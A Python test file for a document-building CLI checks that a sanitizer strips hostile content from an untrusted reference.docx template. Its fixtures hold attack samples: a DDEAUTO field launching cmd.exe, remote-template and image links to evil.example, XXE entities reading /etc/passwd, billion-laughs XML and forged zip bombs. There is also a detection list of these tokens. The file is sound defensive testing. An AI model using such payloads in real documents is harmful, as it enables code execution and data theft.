"""templates/reference.docx is untrusted: hostile files built here with zipfile, run through the real CLI.

Every build that succeeds is read back part by part: nothing that was removed is in
offer.docx or contract.docx, every XML part parses, and the reference's styles are there.
"""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

import docx
import pytest
from lxml import etree

from proposals.writers import reference as docx_reference
from proposals.input import archive
from proposals.writers.reference import sanitizer

from ..conftest import REPO

REFERENCE = REPO / "templates" / "reference.docx"
WHERE = "templates/reference.docx"
KIND = "[template.reference-docx]"
MARKER = "Hostile Marker"

CT = "http://schemas.openxmlformats.org/package/2006/content-types"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
NS = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
      'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
      'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
      'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
      'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
      'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"')
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
BILLION_LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10}">' for i in range(1, 10))
                  + f']><w:styles {NS}><w:style w:type="paragraph" w:styleId="X"><w:name w:val="&lol9;"/></w:style></w:styles>')


# ------------------------------------------------------------------ building hostile files
def parts() -> dict[str, bytes]:
    """The example reference.docx's members, with one custom style to find again in the output."""
    with zipfile.ZipFile(REFERENCE) as archive:
        found = {name: archive.read(name) for name in archive.namelist()}
    style = f'<w:style w:type="paragraph" w:customStyle="1" w:styleId="HostileMarker"><w:name w:val="{MARKER}"/></w:style>'
    found["word/styles.xml"] = found["word/styles.xml"].replace(b"</w:styles>", style.encode() + b"</w:styles>")
    return found


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def add_rel(members: dict[str, bytes], rels: str, rid: str, rtype: str, target: str, external: bool = False) -> None:
    mode = ' TargetMode="External"' if external else ""
    xml = members.get(rels, f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{PR}"></Relationships>'.encode())
    entry = f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/>'
    members[rels] = xml.replace(b"</Relationships>", entry.encode() + b"</Relationships>")


def add_type(members: dict[str, bytes], part: str, content_type: str) -> None:
    entry = f'<Override PartName="{part}" ContentType="{content_type}"/>'
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(b"</Types>", entry.encode() + b"</Types>")


HEADER = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:hdr {NS}>
<w:p><w:hyperlink r:id="rIdH1"><w:r><w:t>linked text</w:t></w:r></w:hyperlink></w:p>
<w:p><w:r><w:t>remote picture:</w:t></w:r><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="remote"/>
<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="remote"/><pic:cNvPicPr/></pic:nvPicPr>
<pic:blipFill><a:blip r:link="rIdH2"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>
<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="2" name="logo"/>
<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="2" name="logo"/><pic:cNvPicPr/></pic:nvPicPr>
<pic:blipFill><a:blip r:embed="rIdH3"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>
<w:p><w:fldSimple w:instr=' INCLUDEPICTURE "http://evil.example/track.png" \\d '><w:r><w:t>pic</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>dde result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:t>even header</w:t></w:r></w:p>
<w:p><w:r><w:pict><v:shape id="s1" style="width:1pt;height:1pt"><v:imagedata o:href="http://evil.example/vml.png" o:title=""/></v:shape></w:pict></w:r></w:p>
</w:hdr>"""


def hostile_members() -> dict[str, bytes]:
    """A reference.docx with about every way to smuggle something in."""
    m = parts()
    rels = "word/_rels/document.xml.rels"
    m["[Content_Types].xml"] = m["[Content_Types].xml"].replace(
        (WML + "document.main+xml").encode(), b"application/vnd.ms-word.document.macroEnabled.main+xml")
    m["[Content_Types].xml"] = m["[Content_Types].xml"].replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b'<Default Extension="png" ContentType="image/png"/><Default Extension="htm" ContentType="text/html"/></Types>')
    # macros
    m["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 Attribute VB_Name = \"ThisDocument\" Sub AutoOpen()"
    add_rel(m, rels, "rId100", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
    m["word/vbaData.xml"] = b'<?xml version="1.0"?><wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>'
    add_type(m, "/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")
    add_rel(m, "word/_rels/vbaProject.bin.rels", "rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml")
    # content a style sheet does not need
    m["word/comments.xml"] = f'<?xml version="1.0"?><w:comments {NS}/>'.encode()
    add_type(m, "/word/comments.xml", WML + "comments+xml")
    add_rel(m, rels, "rId101", RT + "comments", "comments.xml")
    m["word/glossary/document.xml"] = f'<?xml version="1.0"?><w:glossaryDocument {NS}/>'.encode()
    add_type(m, "/word/glossary/document.xml", WML + "document.glossary+xml")
    add_rel(m, rels, "rId102", RT + "glossaryDocument", "glossary/document.xml")
    m["word/people.xml"] = b'<?xml version="1.0"?><w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"/>'
    add_rel(m, rels, "rId103", "http://schemas.microsoft.com/office/2011/relationships/people", "people.xml")
    m["customXml/item1.xml"] = b"<secret>agency data</secret>"
    add_rel(m, rels, "rId104", RT + "customXml", "../customXml/item1.xml")
    m["customXml/itemProps1.xml"] = b'<?xml version="1.0"?><ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>'
    add_rel(m, "customXml/_rels/item1.xml.rels", "rId1", RT + "customXmlProps", "itemProps1.xml")
    m["word/afchunk.htm"] = b"<html><body>imported</body></html>"
    add_rel(m, rels, "rId105", RT + "aFChunk", "afchunk.htm")
    m["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0ole"
    add_rel(m, rels, "rId108", RT + "oleObject", "embeddings/oleObject1.bin")
    m["word/activeX/activeX1.xml"] = b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    add_type(m, "/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    add_rel(m, rels, "rId109", RT + "control", "activeX/activeX1.xml")
    # external and outward relationships
    add_rel(m, rels, "rId106", RT + "hyperlink", "https://evil.example/doc", external=True)
    add_rel(m, rels, "rId110", RT + "image", "../../../../etc/passwd")
    add_rel(m, rels, "rId111", RT + "image", "http://evil.example/x.png")
    add_rel(m, "_rels/.rels", "rId9", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail", "http://evil.example/thumb.jpeg", external=True)
    add_rel(m, "word/_rels/footer1.xml.rels", "rIdF1", RT + "hyperlink", "https://evil.example/footer", external=True)
    # remote template injection and a mail merge source
    m["word/settings.xml"] = m["word/settings.xml"].replace(
        b"<w:zoom ", b'<w:attachedTemplate r:id="rId1"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        b'<w:dataSource r:id="rId2"/></w:mailMerge><w:zoom ', 1)
    assert b"attachedTemplate" in m["word/settings.xml"]
    add_rel(m, "word/_rels/settings.xml.rels", "rId1", RT + "attachedTemplate", "https://evil.example/template.dotm", external=True)
    add_rel(m, "word/_rels/settings.xml.rels", "rId2", RT + "mailMergeSource", "file:///C:/evil.example/data.xlsx", external=True)
    # an even-page header the writer leaves alone, full of remote content; an altChunk in the body
    m["word/header2.xml"] = HEADER.encode()
    add_type(m, "/word/header2.xml", WML + "header+xml")
    add_rel(m, rels, "rId107", RT + "header", "header2.xml")
    add_rel(m, "word/_rels/header2.xml.rels", "rIdH1", RT + "hyperlink", "https://evil.example/link", external=True)
    add_rel(m, "word/_rels/header2.xml.rels", "rIdH2", RT + "image", "https://evil.example/pixel.png", external=True)
    add_rel(m, "word/_rels/header2.xml.rels", "rIdH3", RT + "image", "media/logo.png")
    m["word/media/logo.png"] = PNG
    m["word/document.xml"] = m["word/document.xml"].replace(
        b"<w:sectPr", b'<w:altChunk r:id="rId105"/><w:sectPr', 1).replace(
        b"<w:footerReference", b'<w:headerReference w:type="even" r:id="rId107"/><w:footerReference', 1)
    return m


HOSTILE_WARNINGS = [
    "word/document.xml: macro-enabled content type replaced by the ordinary Word document type",
    "_rels/.rels: external thumbnail removed",
    "word/document.xml: external hyperlink removed",
    "word/document.xml: image rId110 removed (it points outside the package)",
    "word/document.xml: image rId111 removed (it points outside the package)",
    "word/settings.xml: external attached template removed",
    "word/settings.xml: external mail merge data source removed",
    "word/footer1.xml: external hyperlink removed",
    "word/header2.xml: external hyperlink removed",
    "word/header2.xml: external image removed",
    "word/header2.xml: field INCLUDEPICTURE removed",
    "word/header2.xml: field DDEAUTO removed",
    "word/header2.xml: linked picture or link of a VML shape removed",
    "customXml/item1.xml: custom XML data removed",
    "customXml/itemProps1.xml: custom XML data properties removed",
    "word/activeX/activeX1.xml: ActiveX control removed",
    "word/afchunk.htm: altChunk (imported content) removed",
    "word/comments.xml: comments removed",
    "word/embeddings/oleObject1.bin: embedded OLE object removed",
    "word/glossary/document.xml: glossary (building blocks) removed",
    "word/people.xml: people (comment authors) removed",
    "word/vbaData.xml: macro data removed",
    "word/vbaProject.bin: macros (VBA project) removed",
]


def workspace(ws: Path, data: bytes) -> Path:
    (ws / "templates").mkdir(exist_ok=True)
    (ws / "templates" / "reference.docx").write_bytes(data)
    return ws


def ours(err: str) -> list[str]:
    return [line for line in err.splitlines() if line.startswith(WHERE)]


def as_warnings(messages: list[str]) -> list[str]:
    return [f"{WHERE}: WARNING: {m} {KIND}" for m in messages]


def no_crash(err: str) -> None:
    assert "Traceback" not in err and "internal error" not in err, err


# ------------------------------------------------------------------ reading the output back
SMUGGLED = (b"vbaProject", b"vbaData", b'TargetMode="External"', b"attachedTemplate", b"mailMerge", b"<!DOCTYPE",
            b"<!ENTITY", b"&xxe;", b"evil.example", b"DDE", b"INCLUDEPICTURE", b"calc.exe", b"macroEnabled",
            b"altChunk", b"afchunk", b"agency data", b"oleObject", b"activeX", b"glossary", b"comments", b"people")
STRICT = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)


def assert_clean(path: Path) -> docx.document.Document:
    """Every part of a written DOCX: nothing smuggled, well-formed XML, no DTD; opens with the reference's styles."""
    with zipfile.ZipFile(path) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            data = archive.read(name)
            for needle in SMUGGLED:
                assert needle.lower() not in name.lower().encode(), (path.name, name)
                assert needle not in data, (path.name, name, needle)
            if name.endswith((".xml", ".rels")):
                root = etree.fromstring(data, STRICT)
                assert not root.getroottree().docinfo.doctype, (path.name, name)
                assert not any(isinstance(e, etree._Entity) for e in root.iter()), (path.name, name)
    document = docx.Document(str(path))
    assert document.styles[MARKER].style_id == "HostileMarker"
    assert document.styles["Heading 1"] is not None
    return document


def built_docs(ws: Path) -> list[Path]:
    found = sorted((ws / "output").glob("*/*.docx"))
    assert [p.name for p in found] == ["contract-redline.docx", "contract.docx", "offer.docx"]
    return found


def assert_nothing_written(ws: Path) -> None:
    assert not (ws / "output").exists() or not any((ws / "output").iterdir())


# ------------------------------------------------------------------ tests
def test_hostile_parts_are_removed_each_with_one_warning_and_never_reach_the_output(minimal, cli):
    workspace(minimal, zipped(hostile_members()))
    code, out, err = cli("build", "-w", minimal, "--format", "docx")
    no_crash(err)
    assert code == 0, err
    assert ours(err) == as_warnings(HOSTILE_WARNINGS)
    for path in built_docs(minimal):
        document = assert_clean(path)
        section = document.sections[0]
        even = section.even_page_header
        assert "even header" in "".join(p.text for p in even.paragraphs)  # the harmless rest of it is kept
        assert "linked text" in "".join(p.text for p in even.paragraphs)  # the link's text without the link
        assert [r.reltype for r in even.part.rels.values()] == [docx.opc.constants.RELATIONSHIP_TYPE.IMAGE]
        assert even.part.related_parts[next(iter(even.part.rels))].blob == PNG
        assert "PAGE" in "".join(even._element.xpath(".//w:instrText/text()"))


def test_check_reports_the_same_warnings_as_build(minimal, cli):
    workspace(minimal, zipped(hostile_members()))
    code, out, err = cli("check", "-w", minimal)
    no_crash(err)
    assert code == 0, err
    assert ours(err) == as_warnings(HOSTILE_WARNINGS)
    code, out, err = cli("check", "-w", minimal, "--strict")
    assert code == 1 and ours(err) == as_warnings(HOSTILE_WARNINGS)


@pytest.mark.invalid_docx_expected  # the validator requires a font table; Word and LibreOffice do without
def test_doctype_in_a_part_that_can_go_removes_the_part(minimal, cli):
    m = parts()
    m["word/fontTable.xml"] = m["word/fontTable.xml"].replace(
        b"<w:fonts ", b'<!DOCTYPE w:fonts [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><w:fonts ', 1).replace(
        b"</w:fonts>", b"&xxe;</w:fonts>")
    workspace(minimal, zipped(m))
    code, out, err = cli("build", "-w", minimal, "--format", "docx")
    no_crash(err)
    assert code == 0, err
    assert ours(err) == as_warnings(["word/fontTable.xml: has a DOCTYPE (DTD); part removed"])
    for path in built_docs(minimal):
        assert_clean(path)
        assert "word/fontTable.xml" not in zipfile.ZipFile(path).namelist()


@pytest.mark.parametrize(("name", "make", "message"), [
    ("billion laughs in styles", lambda m: m.update({"word/styles.xml": BILLION_LAUGHS.encode()}),
     "word/styles.xml: has a DOCTYPE (DTD); refused"),
    ("entity in the main document", lambda m: m.update({"word/document.xml": m["word/document.xml"].replace(
        b"<w:document ", b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><w:document ', 1)}),
     "word/document.xml: has a DOCTYPE (DTD); refused"),
    ("entity in numbering", lambda m: m.update({"word/numbering.xml": m["word/numbering.xml"].replace(
        b"<w:numbering ", b'<!DOCTYPE w:numbering [<!ENTITY a "aa">]><w:numbering ', 1).replace(b"</w:numbering>", b"&a;</w:numbering>")}),
     "word/numbering.xml: has a DOCTYPE (DTD); refused"),
    ("no styles", lambda m: (m.pop("word/styles.xml"), m.update({"word/_rels/document.xml.rels": m["word/_rels/document.xml.rels"].replace(
        b'Type="' + (RT + "styles").encode() + b'"', b'Type="' + (RT + "nothing").encode() + b'"')})),
     "no styles part (word/styles.xml) in word/document.xml"),
    ("broken styles", lambda m: m.update({"word/styles.xml": m["word/styles.xml"][:200]}),
     "word/styles.xml: not well-formed XML (AttValue: ' expected, line 2, column 145); refused"),
    ("no main document", lambda m: m.pop("word/document.xml"), "no main document part (word/document.xml)"),
    ("too many members", lambda m: m.update({f"word/media/x{i}.png": b"" for i in range(300)}),
     "the archive holds 313 files; at most 300 are allowed"),
])
def test_unusable_reference_fails_with_one_line_and_writes_nothing(minimal, cli, name, make, message):
    m = parts()
    make(m)
    workspace(minimal, zipped(m))
    for command in ("build", "check"):
        code, out, err = cli(command, "-w", minimal)
        no_crash(err)
        assert (code, err.splitlines()) == (2, [f"{WHERE}: {message}", "failed: 1 problem"]), (command, err)
    assert_nothing_written(minimal)


def test_truncated_file_and_a_text_file_named_docx(minimal, cli):
    data = zipped(parts())
    for content, message in ((data[: len(data) // 2], "the file is damaged or truncated (its zip directory cannot be read)"),
                             (b"just some text\n", "not a .docx file (a Word document is a zip archive; this file is not)"),
                             (b"", "not a .docx file (a Word document is a zip archive; this file is not)")):
        workspace(minimal, content)
        code, out, err = cli("build", "-w", minimal, "--format", "docx")
        no_crash(err)
        assert (code, err.splitlines()) == (2, [f"{WHERE}: {message}", "failed: 1 problem"])
        assert_nothing_written(minimal)


def _forge_size(data: bytes, name: str, size: int) -> bytes:
    """Claim ``size`` bytes for member ``name`` in both its local and its central header (a lying zip)."""
    blob = bytearray(data)
    encoded = name.encode()
    for signature, field in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := blob.find(signature, start)) != -1:
            name_at = start + (30 if signature == b"PK\x03\x04" else 46)
            if blob[name_at:name_at + len(encoded)] == encoded:
                blob[start + field:start + field + 4] = struct.pack("<I", size)
            start += 4
    return bytes(blob)


def test_zip_bombs_are_refused_by_what_they_inflate_to(minimal, cli):
    m = parts()
    m["word/styles.xml"] = m["word/styles.xml"] + b" " * (20 * 1024 * 1024)
    honest = zipped(m)
    assert len(honest) < 200_000
    lying = _forge_size(honest, "word/styles.xml", 30_000)
    for data, message in ((honest, "word/styles.xml: inflates past 16 MiB; refused (a zip bomb?)"),
                          (lying, "word/styles.xml: inflates more than 100 times its compressed size; refused (a zip bomb?)")):
        workspace(minimal, data)
        code, out, err = cli("build", "-w", minimal, "--format", "docx")
        no_crash(err)
        assert (code, err.splitlines()) == (2, [f"{WHERE}: {message}", "failed: 1 problem"])
        assert_nothing_written(minimal)


def test_limits_on_the_file_and_the_total(monkeypatch):
    m = parts()
    monkeypatch.setattr(archive, "MAX_TOTAL_BYTES", 30_000)
    with pytest.raises(docx_reference.InputError) as caught:
        docx_reference.sanitize(zipped(m))
    assert [str(p) for p in caught.value.problems] == [f"{WHERE}: the parts inflate past 0 MiB in total; refused (a zip bomb?)"]
    monkeypatch.setattr(archive, "MAX_FILE_BYTES", 1000)
    path = Path(os.devnull)
    with pytest.raises(docx_reference.InputError) as caught:
        docx_reference.load_reference(path, "dev/null")
    assert str(caught.value.problems[0]) == "dev/null: not a regular file"


def test_a_reference_that_is_not_a_readable_file_never_falls_back_to_the_builtin(minimal, cli, tmp_path):
    (minimal / "templates").mkdir()
    target = minimal / "templates" / "reference.docx"
    target.symlink_to(minimal / "templates" / "gone.docx")
    code, out, err = cli("build", "-w", minimal, "--format", "docx")
    assert (code, err.splitlines()) == (2, [f"{WHERE}: file not found (a broken link?)", "failed: 1 problem"])
    target.unlink()
    target.mkdir()
    code, out, err = cli("build", "-w", minimal, "--format", "docx")
    assert (code, err.splitlines()) == (2, [f"{WHERE}: not a regular file", "failed: 1 problem"])
    target.rmdir()
    (tmp_path / "outside.docx").write_bytes(REFERENCE.read_bytes())
    target.symlink_to(tmp_path / "outside.docx")
    code, out, err = cli("build", "-w", minimal, "--format", "docx")
    assert (code, err.splitlines()) == (2, [f"{WHERE}: the reference document must be a file inside the workspace", "failed: 1 problem"])
    assert_nothing_written(minimal)


def test_sanitized_once_per_command_not_per_document(minimal, cli, monkeypatch, tmp_path):
    """The parent sanitizes while loading the workspace; forked workers inherit the result."""
    log = tmp_path / "runs.log"
    original = sanitizer.Sanitizer.run

    def counted(self):
        with open(log, "a") as handle:
            handle.write(f"{os.getpid()}\n")
        return original(self)

    monkeypatch.setattr(sanitizer.Sanitizer, "run", counted)
    workspace(minimal, zipped(hostile_members()))
    code, out, err = cli("build", "-w", minimal, "--format", "docx", "--jobs", "2")
    assert code == 0, err
    assert log.read_text().splitlines() == [str(os.getpid())]
    assert ours(err) == as_warnings(HOSTILE_WARNINGS)  # once each, not once per document


def test_the_example_and_builtin_references_pass_untouched():
    for path in (REFERENCE, docx_reference.BUILTIN):
        clean = docx_reference.sanitize(path.read_bytes())
        assert clean.problems == ()
        with zipfile.ZipFile(io.BytesIO(clean.data)) as archive, zipfile.ZipFile(path) as original:
            assert sorted(archive.namelist()) == sorted(original.namelist())
        assert zlib.crc32(clean.data) == zlib.crc32(docx_reference.sanitize(path.read_bytes()).data)  # deterministic
